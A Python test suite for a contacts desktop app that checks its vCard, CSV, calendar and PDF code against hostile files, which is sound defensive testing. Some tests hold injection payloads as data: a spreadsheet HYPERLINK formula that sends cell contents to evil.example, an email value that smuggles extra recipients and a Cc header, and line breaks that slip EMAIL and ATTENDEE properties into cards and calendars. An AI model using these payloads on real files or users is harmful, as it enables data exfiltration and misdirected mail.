"""Readers and writers of files against hostile content: vCard and CSV files shaped to take memory or time or to
lose people, and names long enough to break a printed page or a drawing. Each case gives one clear line or does
the right thing in bounded work."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from sqlalchemy import text

from oursociety_desktop.formats import csv_io, csv_presets
from oursociety_desktop.formats.csv_cells import unescape_cell
from oursociety_desktop.formats.csv_mapping import suggest_mapping
from oursociety_desktop.formats.ics import export_ics
from oursociety_desktop.formats.import_rows import MAX_ROW_WARNINGS, ImportRow
from oursociety_desktop.formats.mailto import group_mail
from oursociety_desktop.formats.vcard import parse_vcards
from oursociety_desktop.formats.vcard_write import contact_to_vcard
from oursociety_desktop.models.actions import create_action
from oursociety_desktop.models.contacts import create_contact
from oursociety_desktop.models.database import Database
from oursociety_desktop.models.groups import add_member, create_group
from oursociety_desktop.models.records import get_record
from oursociety_desktop.models.tables import Contact
from tests.cli_helpers import NOT_PLAIN, NOT_PLAIN_KINDS, not_a_plain_file, returns_within, run
from tests.core.test_core_cli_hostile import add, refused
from tests.printing.print_fixture import pdf_text


def test_cards_nested_thousands_deep_are_refused_at_once(hub: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "deep.vcf"
    path.write_text("BEGIN:VCARD\r\n" * 100_000 + "VERSION:3.0\r\nFN:Deep\r\n" + "END:VCARD\r\n" * 100_000,
                    encoding="utf-8")
    assert refused(capsys, hub, "vcard", "import", path) == (
        "oursociety: deep.vcf line 11: cards nested more than 10 deep; no address book writes that, so this is "
        "not a vCard file to import. Nothing was imported.\n")


def test_an_agent_card_nested_ten_deep_is_still_read() -> None:
    data = ("BEGIN:VCARD\r\nVERSION:2.1\r\nFN:L0\r\n"
            + "".join(f"AGENT:\r\nBEGIN:VCARD\r\nVERSION:2.1\r\nFN:L{i}\r\n" for i in range(1, 10))
            + "END:VCARD\r\n" * 10).encode()
    assert [row.values["display_name"] for row in parse_vcards(data)] == [f"L{i}" for i in range(10)]


def test_a_row_keeps_a_bounded_number_of_warnings() -> None:
    row = ImportRow(1, "card 1")
    for i in range(20_000):
        row.warn("phones", f"'{i}' does not look like a phone number; kept as typed.")
    row.warn("phones", "'0' does not look like a phone number; kept as typed.")
    assert len(row.warnings) == MAX_ROW_WARNINGS + 1
    assert row.warnings[-1].text() == "more warnings about this row were left out"
    assert row.warnings[0].text() == "phones: '0' does not look like a phone number; kept as typed."


def test_a_photo_folded_over_fifty_thousand_lines_is_skipped_whole() -> None:
    lines = "\r\n ".join(["AAAA" * 18] * 50_000)
    data = (f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Photo\r\nPHOTO;ENCODING=b;TYPE=JPEG:{lines}\r\n"
            "NOTE:after\r\nEND:VCARD\r\n")
    [row] = parse_vcards(data.encode())
    assert row.values["display_name"] == "Photo" and row.values["notes"] == "after" and row.skipped_binary == 1


def test_two_card_files_joined_into_one_give_both_people(hub: Path, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    card = "BEGIN:VCARD\r\nVERSION:3.0\r\nN:{family};{given};;;\r\nFN:{given} {family}\r\nEND:VCARD\r\n"
    path = tmp_path / "joined.vcf"  # `cat a.vcf b.vcf`: each file began with a byte order mark
    path.write_bytes(b"\xef\xbb\xbf" + card.format(given="Ann", family="Zed").encode()
                     + b"\xef\xbb\xbf" + card.format(given="Bo", family="Q\ufeffist").encode())
    out = add(capsys, hub, "vcard", "import", str(path))
    assert out.startswith("2 read: 2 added")
    names = {(c["given_name"], c["family_name"]) for c in json.loads(add(capsys, hub, "contact", "list", "--json"))}
    assert names == {("Ann", "Zed"), ("Bo", "Qist")}


def test_an_address_that_came_unchecked_adds_no_recipient_to_a_group_email(db: Database) -> None:
    with db.write() as tx:
        group = create_group(tx, {"name": "Kitchen"})
        for name in ("Ann", "Bo"):
            person = create_contact(tx, {"given_name": name, "emails": [f"{name.lower()}@example.org"]})
            add_member(tx, group.id, person.id)
        # As a bundle from another hub may carry it: the merge takes the values as they come
        tx.session.connection().execute(text("UPDATE contact SET emails = :e WHERE given_name = 'Bo'"), {
            "e": json.dumps([{"label": "", "value": "bo@example.org,spy@evil.example\r\nCc: all@evil.example"}])})
    with db.read() as session:
        mail = group_mail(session.connection(), group.id)
    assert mail.link() == "mailto:?bcc=ann@example.org" and mail.without_email == 1


def test_mapping_ten_thousand_columns_builds_each_table_by_compact_key_once(monkeypatch: pytest.MonkeyPatch) -> None:
    headers = [f"Column {i}" for i in range(10_000)] + ["First Name", "E-mail Address"]
    expected = suggest_mapping(headers)
    calls = 0
    real = csv_presets.compact_key

    def counting(header: str) -> str:
        nonlocal calls
        calls += 1
        return real(header)

    monkeypatch.setattr(csv_presets, "compact_key", counting)
    assert suggest_mapping(headers) == expected
    assert expected[10_000].field == "given_name" and expected[10_001].field == "email"
    # One compact key per header and table looked in (3 tables), and each table's keys once: it was 5.5 million
    assert calls < 4 * len(headers) + 2_000


@pytest.mark.parametrize("product", ["directory", "group", "calls", "actions", "signin"])
def test_a_name_as_long_as_allowed_is_printed_cut_with_an_ellipsis(hub: Path, tmp_path: Path, product: str,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    # Each stopped with 'unexpected error (LayoutError: ... too large on page 3)': a table row cannot go on over
    # two pages, and a 100,000-character name or a 20,000-character title made one taller than a page
    cid = add(capsys, hub, "contact", "add", "--given", "W" * 100_000, "--family", "Long", "--phone",
              "0161 496 0000", "--share", "--directory")
    add(capsys, hub, "group", "add", "Kitchen")
    add(capsys, hub, "group", "add-member", "Kitchen", cid)
    aid = add(capsys, hub, "action", "add", "Meet " + "T" * 20_000, "--group", "Kitchen", "--assign", cid,
              "--set", "starts_at=2026-03-01T18:00")
    extra = {"group": ["--group", "Kitchen"], "signin": ["--action", aid]}.get(product, [])
    out = tmp_path / f"{product}.pdf"
    code, printed, err = run(capsys, "--data-dir", hub, "print", product, "-o", out, "--large-print", *extra)
    assert code == 0 and printed.startswith(f"Wrote {out} ("), err
    text = pdf_text(out)
    assert "WWWWWW" in text and ("W\u2026" in text or "T\u2026" in text or product == "signin")


@pytest.mark.parametrize("charset", ["base64", "rot13", "punycode", "undefined"])
def test_a_charset_that_is_not_a_text_encoding_is_an_unknown_one(charset: str) -> None:
    data = f"BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET={charset}:Z\xe9d;Ann\r\nEND:VCARD\r\n".encode("cp1252")
    [row] = parse_vcards(data)
    assert row.values["family_name"] == "Zéd" and row.ok
    assert row.warnings[0].text().startswith(f"N: unknown character set '{charset}'; read as Windows-1252")


@pytest.mark.parametrize(("option", "value", "expected"), [
    ("--encoding", "punycode", "Unknown text encoding 'punycode' given with --encoding; use a name such as utf-8, "
                               "cp1252, iso-8859-7, koi8-u or shift_jis."),
    ("--encoding", "unicode_escape", "Unknown text encoding 'unicode_escape' given with --encoding; use a name such "
                                     "as utf-8, cp1252, iso-8859-7, koi8-u or shift_jis."),
    ("--delimiter", "ab", "--delimiter takes one character, or 'tab', not 'ab'.")])
def test_csv_options_that_no_file_can_have(hub: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                           option: str, value: str, expected: str) -> None:
    path = tmp_path / "people.csv"
    path.write_text("First Name,Last Name\nAnn,Zed\n", encoding="utf-8")
    assert refused(capsys, hub, "csv", "import", path, option, value) == f"oursociety: {expected}\n"


def test_a_note_about_a_long_name_stays_short(hub: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cid = add(capsys, hub, "contact", "add", "--given", "W" * 100_000, "--share", "--directory")
    add(capsys, hub, "contact", "edit", cid, "--set", "street=" + "S" * 50_000, "--set", "postcode=M1 1AA")
    code, _, err = run(capsys, "--data-dir", hub, "print", "labels", "-o", tmp_path / "labels.pdf")
    assert code == 0
    assert err == ("Too long for a L7160 label even at 7 pt, printed without part of the street: "
                   f"{'W' * 59}…. Try a larger label (L7161, L7163, 5163).\n")


def test_the_network_drawing_names_a_long_name_on_one_line(hub: Path, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    long = add(capsys, hub, "contact", "add", "--given", "W" * 100_000, "--share", "--directory")
    fay = add(capsys, hub, "contact", "add", "--given", "Fay", "--share", "--directory")
    add(capsys, hub, "connection", "add", long, fay)
    out = tmp_path / "network.pdf"
    assert add(capsys, hub, "network", "export", str(out)) == f"Drew 2 people to {out}"
    text = pdf_text(out)
    assert "W" * 59 + "\u2026" in text and "W" * 60 not in text and "Fay" in text


# Every line break that str.splitlines knows besides LF; a reader splitting at one would start a new property there.
OTHER_BREAKS = ["\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("brk", OTHER_BREAKS)
def test_a_line_break_of_any_kind_starts_no_property_in_a_card_or_a_calendar(db: Database, tmp_path: Path,
                                                                             brk: str) -> None:
    with db.write() as tx:
        person = create_contact(tx, {"given_name": "Ann", "emails": ["ann@example.org"]})
        action = create_action(tx, {"title": "Walk", "due": "2026-12-05"})
        # As a bundle from an older hub may carry them: the merge takes the values as they come
        conn = tx.session.connection()
        conn.execute(text("UPDATE contact SET notes = :n WHERE id = :id"),
                     {"n": f"Ring first{brk}EMAIL:spy@evil.example", "id": person.id})
        conn.execute(text("UPDATE action SET title = :t, location = :t, notes = :t WHERE id = :id"),
                     {"t": f"Walk{brk}ATTENDEE:mailto:spy@evil.example", "id": action.id})
    with db.read() as session:
        card = contact_to_vcard(get_record(session, Contact, person.id).synced_values())
    export_ics(db, tmp_path / "walks.ics", [action.id])
    calendar = (tmp_path / "walks.ics").read_bytes().decode("utf-8")
    assert [line for line in card.splitlines() if "spy" in line] == ["NOTE:Ring first\\nEMAIL:spy@evil.example"]
    assert sorted(line.split(":")[0] for line in calendar.splitlines() if "spy" in line) == [
        "DESCRIPTION", "LOCATION", "SUMMARY"]
    assert [[e["value"] for e in row.values["emails"]] for row in parse_vcards(card.encode())] == [["ann@example.org"]]


def test_the_skipped_rows_of_a_hostile_file_run_no_formula_and_read_back_the_same(hub: Path, tmp_path: Path,
                                                                                  capsys: pytest.CaptureFixture[str]
                                                                                  ) -> None:
    """The file of skipped rows is opened in a spreadsheet to be mended: a cell of the hostile file went in raw."""
    link = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    path = tmp_path / "hostile.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["First Name", "Last Name", "Email", "Do Not Email"], ["Bad", "Two", link, "maybe"],
                                  ["Old", "One", "'" + link, "maybe"], ["+Dial", "-Three", "@me", "=1"]])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    errors = tmp_path / "skipped.csv"
    code, _out, err = run(capsys, "--data-dir", hub, "csv", "import", path, "--errors-to", errors)
    assert code == 0, err
    saved = list(csv.reader(io.StringIO(errors.read_text(encoding="utf-8-sig"))))
    assert [row[:4] for row in saved[1:]] == [["Bad", "Two", "'" + link, "maybe"], ["Old", "One", "'" + link, "maybe"],
                                              ["'+Dial", "'-Three", "'@me", "'=1"]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in saved for cell in row)
    # Mended and read again, every cell reads as the first reading read it
    first = csv_io.parse_csv(path.read_bytes())
    again = csv_io.parse_csv(errors.read_bytes())
    assert [[unescape_cell(c) for c in cells[:4]] for _line, cells in again.rows] == [
        [unescape_cell(c) for c in cells] for _line, cells in first.rows]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes and /dev/zero are POSIX")
@pytest.mark.parametrize("kind", NOT_PLAIN_KINDS)
@pytest.mark.parametrize(("reader", "name"), [("vcard", "people.vcf"), ("csv", "people.csv"), ("restore", "backup.db")])
def test_a_file_that_is_not_plain_is_refused_before_a_byte_is_read(hub: Path, tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str], kind: str,
                                                                   reader: str, name: str) -> None:
    """A vCard named on the command line that was a named pipe waited for ever; a link to /dev/zero was read until
    the memory ran out (the bundle reader and the exchange folder were mended first; every reader is now)."""
    path = not_a_plain_file(tmp_path / name, kind)
    args = (reader, "import", path) if reader != "restore" else ("restore", path)
    line = returns_within(lambda: refused(capsys, hub, *args), f"{reader} of a {kind}")
    assert NOT_PLAIN in line, line
